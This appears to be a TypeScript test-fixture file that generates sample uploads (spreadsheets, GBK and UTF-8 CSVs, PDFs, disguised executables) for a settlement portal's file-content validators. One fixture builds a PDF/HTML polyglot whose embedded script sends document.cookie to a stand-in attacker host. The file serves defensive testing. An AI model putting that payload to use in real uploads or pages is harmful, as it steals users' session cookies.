import { deflateSync } from 'node:zlib';
import { xlsxWorkbook, zipArchive } from './zip';

/*
 * Files as people upload them, and as they arrive renamed, for the content checks of both
 * sides (the portal's checkUpload, shared/lib/validation/fileContent.ts, and the mock
 * service's, mocks/lib/uploadContent.ts): one table, so the two agree file by file.
 */

const utf8 = (text: string) => new TextEncoder().encode(text);
const concat = (...parts: ReadonlyArray<string | readonly number[] | Uint8Array>) =>
  Uint8Array.from(parts.flatMap((part) => (typeof part === 'string' ? [...utf8(part)] : [...part])));

/** The words of a Chinese Excel's settlement export, in GBK (what its "CSV" saves). */
const GBK = {
  结算日期: [0xbd, 0xe1, 0xcb, 0xe3, 0xc8, 0xd5, 0xc6, 0xda],
  订单号: [0xb6, 0xa9, 0xb5, 0xa5, 0xba, 0xc5],
  金额: [0xbd, 0xf0, 0xb6, 0xee],
  币种: [0xb1, 0xd2, 0xd6, 0xd6],
  美元: [0xc3, 0xc0, 0xd4, 0xaa],
} as const;

/** 结算日期,订单号,金额,币种 and a row, CRLF, in GBK: what `new TextDecoder('gbk')` reads back as GBK_CSV_TEXT. */
export const gbkCsv = (): Uint8Array<ArrayBuffer> =>
  concat(GBK.结算日期, ',', GBK.订单号, ',', GBK.金额, ',', GBK.币种, '\r\n2025-03-01,113-4567890-1234567,1234.56,', GBK.美元, '\r\n');
export const GBK_CSV_TEXT = '结算日期,订单号,金额,币种\r\n2025-03-01,113-4567890-1234567,1234.56,美元\r\n';

/**
 * A small real PDF as a word processor writes it: the binary comment after the header, the
 * document's XMP metadata uncompressed near the start (with the packet's customary padding,
 * so the first 4 KB are all text), and the page's content in a FlateDecode stream (binary
 * bytes), with its cross-reference table.
 */
export function pdfDocument(): Uint8Array<ArrayBuffer> {
  const content = deflateSync('BT /F1 20 Tf 40 230 Td (Settlement agreement - signed 2025-03-31) Tj ET\n');
  const xmp = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>\n<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li xml:lang="x-default">Settlement agreement</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta>\n${`${' '.repeat(99)}\n`.repeat(40)}<?xpacket end="w"?>`;
  const objects: Array<Array<string | Uint8Array>> = [
    ['<< /Type /Catalog /Pages 3 0 R /Metadata 2 0 R >>'],
    [`<< /Type /Metadata /Subtype /XML /Length ${xmp.length} >>\nstream\n${xmp}\nendstream`],
    ['<< /Type /Pages /Kids [4 0 R] /Count 1 >>'],
    ['<< /Type /Page /Parent 3 0 R /MediaBox [0 0 420 300] /Contents 5 0 R /Resources << /Font << /F1 6 0 R >> >> >>'],
    [`<< /Length ${content.length} /Filter /FlateDecode >>\nstream\n`, content, '\nendstream'],
    ['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'],
  ];
  const parts: Array<string | readonly number[] | Uint8Array> = ['%PDF-1.7\n%', [0xe2, 0xe3, 0xcf, 0xd3], '\n'];
  const length = () => concat(...parts).length;
  const offsets = objects.map((body, index) => {
    const offset = length();
    parts.push(`${index + 1} 0 obj\n`, ...body, '\nendobj\n');
    return offset;
  });
  const xref = length();
  parts.push(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`));
  parts.push(`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`);
  return concat(...parts);
}

/** A file that is a PDF to a PDF reader and a page with a script to an HTML parser. */
export const polyglotPdf = (): Uint8Array<ArrayBuffer> =>
  concat('%PDF-1.7\n<!doctype html><html><body><script>fetch("https://attacker.example/?c=" + document.cookie)</script></body></html>\n', pdfDocument().subarray(9));

/** A csv long enough that its fault lies far past the first 4 KB. */
const longCsv = (fault: string) => utf8(`date,order id,amount\n${'2025-03-01,113-4567890-1234567,12.50\n'.repeat(3000)}${fault}2025-03-31,113-4567890-7654321,8.00\n`);

/** An xlsx whose end record says its central directory lies past the file's end (a damaged download). */
function xlsxPointingPastItsEnd(): Uint8Array<ArrayBuffer> {
  const bytes = xlsxWorkbook();
  new DataView(bytes.buffer).setUint32(bytes.length - 6, bytes.length + 100, true);
  return bytes;
}

export interface ContentSample {
  readonly case: string;
  readonly name: string;
  readonly bytes: () => Uint8Array<ArrayBuffer>;
  /** Whether the content fits the name's type. */
  readonly fits: boolean;
}

export const CONTENT_SAMPLES: readonly ContentSample[] = [
  { case: 'a real xlsx', name: 'US settlement March-2025.xlsx', bytes: () => xlsxWorkbook(), fits: true },
  { case: 'an xlsx with an archive comment', name: 'UK settlement Q1.xlsx', bytes: () => xlsxWorkbook({ comment: 'Exported by the seller centre' }), fits: true },
  { case: 'an xlsx whose writer always uses zip64', name: 'DE settlement April-2025.xlsx', bytes: () => xlsxWorkbook({ zip64: true }), fits: true },
  {
    case: 'a plain zip renamed .xlsx',
    name: 'US settlement March-2025.xlsx',
    bytes: () => zipArchive([['March/orders.csv', 'date,amount\n2025-03-01,10\n'], ['March/readme.txt', 'Orders of March']]),
    fits: false,
  },
  {
    case: 'a Word document (docx) renamed .xlsx',
    name: 'Settlement notes.xlsx',
    bytes: () => zipArchive([['[Content_Types].xml', '<Types/>'], ['word/document.xml', '<w:document/>']]),
    fits: false,
  },
  { case: 'a zip with xl/ entries but no [Content_Types].xml', name: 'settlement.xlsx', bytes: () => zipArchive([['xl/workbook.xml', '<workbook/>']]), fits: false },
  { case: 'an xlsx cut short (no end record)', name: 'US settlement March-2025.xlsx', bytes: () => xlsxWorkbook().slice(0, -30), fits: false },
  { case: 'an xlsx whose end record points past the file', name: 'US settlement March-2025.xlsx', bytes: xlsxPointingPastItsEnd, fits: false },
  { case: 'a csv renamed .xlsx', name: 'sales.xlsx', bytes: () => utf8('date,amount\n2025-03-01,10\n'), fits: false },
  { case: 'a UTF-8 csv with Chinese', name: '结算明细 2025年3月.csv', bytes: () => utf8(GBK_CSV_TEXT), fits: true },
  { case: 'a UTF-8 csv with a BOM and tabs', name: 'Settlement 2025-03.csv', bytes: () => concat([0xef, 0xbb, 0xbf], 'date\tamount\r\n2025-03-01\t10\r\n'), fits: true },
  { case: 'a GBK csv', name: '结算明细 2025年3月.csv', bytes: gbkCsv, fits: true },
  { case: 'a long csv', name: 'US settlement 2025.csv', bytes: () => longCsv(''), fits: true },
  { case: 'a csv with a NUL byte', name: 'settlement.csv', bytes: () => utf8('date,amount\n2025-03-01,10\u0000\n'), fits: false },
  { case: 'a csv with an escape sequence', name: 'settlement.csv', bytes: () => utf8('date,amount\n\u001b[31m2025-03-01,10\n'), fits: false },
  // Valid UTF-8 (U+0085, a C1 control), which a GBK reading would take for a character: a UTF-8 file is read as UTF-8.
  { case: 'a UTF-8 csv with a C1 control character', name: 'settlement.csv', bytes: () => concat('date,amount\n', [0xc2, 0x85], '2025-03-01,10\n'), fits: false },
  { case: 'a csv with a control byte past its first 4 KB', name: 'US settlement 2025.csv', bytes: () => longCsv('\u0001'), fits: false },
  { case: 'a csv in neither UTF-8 nor GBK', name: 'settlement.csv', bytes: () => concat('date,amount\n', [0xff, 0xfe], ',10\n'), fits: false },
  { case: 'a PDF renamed .csv', name: 'US settlement March-2025.csv', bytes: pdfDocument, fits: false },
  { case: 'an executable renamed .csv', name: 'setup.csv', bytes: () => Uint8Array.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00]), fits: false },
  { case: 'a real pdf', name: 'Signed contract 2025-03.pdf', bytes: pdfDocument, fits: true },
  { case: 'a polyglot pdf (%PDF then HTML)', name: 'scan.pdf', bytes: polyglotPdf, fits: true },
  { case: 'a page renamed .pdf', name: 'scan.pdf', bytes: () => utf8('<!doctype html><title>Not a PDF</title>'), fits: false },
];
